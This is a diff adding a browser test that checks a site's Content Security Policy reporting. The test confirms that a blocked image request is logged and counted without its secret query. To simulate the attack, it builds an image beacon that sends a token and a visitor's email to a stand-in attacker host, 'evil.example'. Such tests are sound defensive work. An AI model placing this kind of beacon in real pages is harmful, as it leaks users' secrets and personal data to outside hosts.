@@ -1,0 +1,28 @@
+import { expect, hydrated, test } from './fixtures/test.ts';
+
+test('a violation reaches the server, which logs and counts it without its query', async ({
+  page,
+  site,
+  request,
+  consoleProblems,
+}) => {
+  await page.goto('/politica-privacidad?token=s3cret');
+  await hydrated(page);
+  await page.evaluate(() => {
+    const image = new Image();
+    image.src = 'https://evil.example/s3cret?visitor=ana@empresa.es';
+  });
+  // Other tests of this server cause reports, too.
+  const line = () => /^.*img-src.*report from a browser.*$/m.exec(site.output())?.[0];
+  await expect.poll(line).toBeTruthy();
+  expect(JSON.parse(line()!)).toMatchObject({
+    kind: 'csp',
+    directive: 'img-src',
+    blocked: 'https://evil.example',
+    page: '/politica-privacidad',
+  });
+  expect(site.output()).not.toMatch(/s3cret|ana@empresa/);
+  const metrics = await (await request.get('/metrics')).text();
+  expect(metrics).toMatch(/^browser_reports_total\{kind="csp",directive="img-src"\} \d+$/m);
+  consoleProblems.length = 0;
+});
